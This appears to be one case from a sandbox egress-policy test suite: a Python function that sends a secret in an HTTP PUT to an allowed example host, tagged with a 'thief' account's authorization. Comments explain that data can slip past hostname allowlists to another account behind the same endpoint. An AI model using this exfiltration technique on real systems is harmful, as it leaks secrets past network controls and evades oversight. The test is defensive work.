# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: data goes to another account behind an allowed name, with that account's key
# proof: word
# needs: resolver
# open: which account a request is for is decided behind the endpoint, by the key that signs it,
#   and mostly inside TLS. A VPC endpoint policy judges there
from attack import SECRET, at_allowed, attempt


@attempt
def put():
    request = (
        "PUT /thief/"
        + SECRET
        + " HTTP/1.1\r\nHost: plain.allowed.example\r\nAuthorization: thief\r\n\r\n"
    )
    return at_allowed(lambda out: out.send(request.encode()), "plain.allowed.example", 80)
